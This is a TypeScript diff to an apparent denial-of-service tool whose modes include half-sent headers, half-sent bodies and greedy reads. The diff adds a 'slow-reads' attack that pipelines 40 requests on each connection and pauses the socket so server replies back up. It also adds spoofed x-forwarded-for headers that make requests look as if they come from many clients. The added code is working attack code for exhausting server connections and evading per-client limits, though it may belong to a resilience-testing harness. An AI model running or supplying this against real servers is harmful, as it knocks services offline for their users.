@@ -45,14 +45,22 @@ function sendHalf(n: number, text: string): Promise<void> {
       socket.write(text);
       done();
     });
-    socket.on('data', (reply: string) => {
-      const status = /^HTTP\/1\.1 (\d+)/.exec(reply)?.[1];
-      if (status) report.statuses[status] = (report.statuses[status] ?? 0) + 1;
-    });
+    if (attack.kind === 'slow-reads') socket.pause();
+    else
+      socket.on('data', (reply: string) => {
+        const status = /^HTTP\/1\.1 (\d+)/.exec(reply)?.[1];
+        if (status) report.statuses[status] = (report.statuses[status] ?? 0) + 1;
+      });
     socket.on('error', () => done());
     socket.once('close', () => sockets.delete(socket));
   });
 }
+
+/** Complete requests on one connection, more replies than the kernel's buffers take, of which nothing is read. */
+const SLOW_READ = Array.from(
+  { length: 40 },
+  (_, n) => `GET ${attack.paths?.[n % attack.paths.length] ?? '/'} HTTP/1.1\r\nHost: localhost\r\n\r\n`,
+).join('');
 
 async function openHalves(text: string, batch: number): Promise<void> {
   for (let n = 0; n < attack.connections && !isStopping; n += batch) {
@@ -62,13 +70,16 @@ async function openHalves(text: string, batch: number): Promise<void> {
   }
 }
 
+const forwardedFor = (n: number): Record<string, string> =>
+  attack.forwardedClients ? { 'x-forwarded-for': `198.51.100.${n % attack.forwardedClients}` } : {};
+
 /** Sends one request after the other on a connection of its own. */
 async function readGreedily(n: number): Promise<void> {
   const agent = new Agent({ keepAlive: true, maxSockets: 1 });
   for (let i = n; !isStopping; i++) {
     const path = attack.paths?.[i % attack.paths.length] ?? '/';
     const status = await new Promise<number>((done) => {
-      get(`${attack.url}${path}`, { agent, localAddress: sourceOf(n) }, (response) => {
+      get(`${attack.url}${path}`, { agent, localAddress: sourceOf(n), headers: forwardedFor(i) }, (response) => {
         response.resume().once('close', () => done(response.statusCode ?? 0));
       }).once('error', () => done(0));
     });
@@ -92,5 +103,6 @@ if (attack.kind === 'greedy-reads') {
   for (let n = 0; n < attack.connections; n++) void readGreedily(n);
   await wait(1_000);
 } else if (attack.kind === 'half-headers') await openHalves(HALF_HEADERS, HEAD_BATCH);
+else if (attack.kind === 'slow-reads') await openHalves(SLOW_READ, HEAD_BATCH);
 else await openHalves(HALF_BODY, BODY_BATCH);
 process.send?.('opened');
